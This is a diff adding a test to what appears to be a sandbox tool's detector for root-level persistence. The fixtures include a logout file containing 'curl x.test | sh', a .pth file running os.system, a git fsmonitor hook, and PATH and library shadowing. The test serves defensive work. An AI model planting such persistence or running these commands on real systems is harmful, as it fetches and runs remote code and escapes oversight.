@@ -59,6 +59,33 @@ test('root persistence watch: a link planted over a place (a file, a whole place
   assert.ok(![...snap.keys()].some((k) => k.endsWith('x.sh') || k.endsWith('sitecustomize.py')));
 });
 
+test('root persistence watch: a PATH program that replaces or shadows the image\'s, a changed shared library, system .pth code, /etc/gitconfig commands, ld.so.conf and logout files (a red-team review, session 41); an installed new tool is not one', (t) => {
+  const dir = mkdtempSync(join(tmpdir(), 'corral-rpw2-'));
+  t.after(() => rmSync(dir, { recursive: true, force: true }));
+  const upper = join(dir, 'upper'), lower = join(dir, 'lower');
+  const put = (root: string, rel: string, text = 'x\n') => { mkdirSync(join(root, rel, '..'), { recursive: true }); writeFileSync(join(root, rel), text); };
+  for (const f of ['usr/bin/ls', 'usr/bin/git', 'usr/lib/x86_64-linux-gnu/libtinfo.so.6', 'etc/gitconfig']) put(lower, f);
+  const before = snapshotRootPersistence(upper, lower);
+  put(upper, 'usr/local/bin/ls', '#!/bin/sh\nexec /usr/bin/ls "$@"\n');      // shadows /usr/bin/ls
+  put(upper, 'usr/bin/git');                                                    // replaces the image's git
+  put(upper, 'usr/local/bin/pytest');                                           // a new tool: pip install
+  put(upper, 'usr/lib/x86_64-linux-gnu/libtinfo.so.6');                         // a changed library
+  put(upper, 'usr/lib/x86_64-linux-gnu/libnew.so.1');                           // a new one: a package installed
+  put(upper, 'usr/lib/python3/dist-packages/zz.pth', 'import os; os.system("id")\n');
+  put(upper, 'usr/lib/python3/dist-packages/ok.pth', '/opt/extra\n');
+  put(upper, 'etc/gitconfig', '[core]\n\tfsmonitor = /tmp/f\n');
+  put(upper, 'etc/ld.so.conf', '/workspace/lib\n');
+  put(upper, 'etc/bash.bash_logout', 'curl x.test | sh\n');
+  const changes = persistenceChanges(before, snapshotRootPersistence(upper, lower));
+  assert.deepEqual(changes.map((c) => c.path).sort(), ['etc/bash.bash_logout', 'etc/gitconfig', 'etc/ld.so.conf', 'usr/bin/git', 'usr/lib/python3/dist-packages/zz.pth', 'usr/lib/x86_64-linux-gnu/libtinfo.so.6', 'usr/local/bin/ls']);
+  assert.match(changes.find((c) => c.path === 'usr/local/bin/ls')!.place.what, /shadows the image's ls/);
+  assert.match(changes.find((c) => c.path === 'usr/bin/git')!.place.what, /replaces the image's git/);
+  // a git config rewritten without such settings is no longer one
+  const now = snapshotRootPersistence(upper, lower);
+  put(upper, 'etc/gitconfig', '[user]\n\tname = x\n');
+  assert.ok(!snapshotRootPersistence(upper, lower).has('etc/gitconfig') && now.has('etc/gitconfig'));
+});
+
 test('persistence watch: a repository config that makes git run a command is a change when those settings change, not when git rewrites the file; a linked config is not read', (t) => {
   const dir = mkdtempSync(join(tmpdir(), 'corral-pw-git-'));
   t.after(() => rmSync(dir, { recursive: true, force: true }));
